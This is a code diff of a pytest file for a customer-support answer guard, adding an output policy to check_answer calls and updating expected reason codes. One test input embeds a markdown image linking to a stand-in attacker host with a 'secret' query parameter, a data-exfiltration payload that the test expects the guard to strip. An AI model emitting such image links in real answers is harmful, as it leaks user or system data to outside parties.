@@ -5,10 +5,13 @@ from typing import Any
 import pytest
 
 from contracts.turn import Citation, Mark
-from orchestrator.guard.answer import Grounds, Phrases, check_answer
+from orchestrator.guard.answer import Phrases, check_answer
+from orchestrator.guard.checker import Grounds
 from orchestrator.guard.masking import IdMask
+from orchestrator.guard.output.policy import OutputPolicy, load_output_policy
 from orchestrator.guard.support.checking import MAX_SENTENCES
 from orchestrator.turn.inputs import Guarded
+from servicekit.privacy import Finder
 
 URL = "https://shop.example/help/returns"
 PASSAGE = {
@@ -21,10 +24,13 @@ QUOTE = Citation(chunk_id="c1", title="Returns", url=URL, quote="within 30 days.
 FOUND = {"passages": [PASSAGE]}
 
 
+POLICY: OutputPolicy = load_output_policy(Finder.load())
+
+
 def check(text: str, *citations: Citation, outputs: list[dict[str, Any]] | None = None) -> Guarded:
     phrases = Phrases(unsupported="No source.", withheld="Withheld.", nearest="Not found; the nearest page is {page}.")
     grounds = Grounds(outputs=outputs or [], asked=("Where is my order ABC123?",))
-    return check_answer(text, citations, (), grounds, IdMask(frozenset({"ABC123"})), phrases)
+    return check_answer(text, citations, (), grounds, IdMask(frozenset({"ABC123"})), phrases, POLICY)
 
 
 def test_a_quote_that_stands_in_its_passage_passes() -> None:
@@ -75,7 +81,7 @@ def test_internal_ids_and_secrets_never_leave(leak: str) -> None:
 def test_images_are_removed_and_order_ids_masked() -> None:
     guarded = check("Order ABC123 ![x](https://evil.example/?q=secret) is here.", outputs=[{"order_id": "ABC123"}])
     assert guarded.text == "Order ••C123  is here."
-    assert guarded.reasons == ("image_removed",)
+    assert guarded.reasons == ("output:image",)
 
 
 def test_an_invoice_link_is_given_beside_the_text() -> None:
@@ -115,7 +121,13 @@ def test_a_quote_of_the_nearest_page_is_its_first_line() -> None:
     page = PASSAGE | {"text": "# Returns\n\nWrite to returns@shop.example first."}
     phrases = Phrases(unsupported="No source.", withheld="Withheld.", nearest="Nearest: {page}.")
     guarded = check_answer(
-        "Boats cost 5000 USD.", (), (), Grounds(outputs=[{"passages": [page]}]), IdMask(frozenset()), phrases
+        "Boats cost 5000 USD.",
+        (),
+        (),
+        Grounds(outputs=[{"passages": [page]}]),
+        IdMask(frozenset()),
+        phrases,
+        POLICY,
     )
     assert (guarded.verdict, guarded.citations[0].quote) == ("refuse", "Write to returns@shop.example first.")
 
@@ -151,6 +163,6 @@ def test_in_another_language_a_sentence_needs_a_mark_and_its_numbers_must_agree(
     )
     grounds = Grounds(outputs=[FOUND], foreign=True)
     marks = (Mark(offset=54, chunk_id="c1"), Mark(offset=78, chunk_id="c1"))
-    guarded = check_answer(text, (QUOTE,), marks, grounds, IdMask(frozenset()), phrases)
+    guarded = check_answer(text, (QUOTE,), marks, grounds, IdMask(frozenset()), phrases, POLICY)
     assert guarded.text == f"Sie können Artikel innerhalb von 30 Tagen zurückgeben.\n\nLaut “Returns” ({URL})."
     assert [one.quote for one in guarded.support] == ["You can return an item within 30 days."]
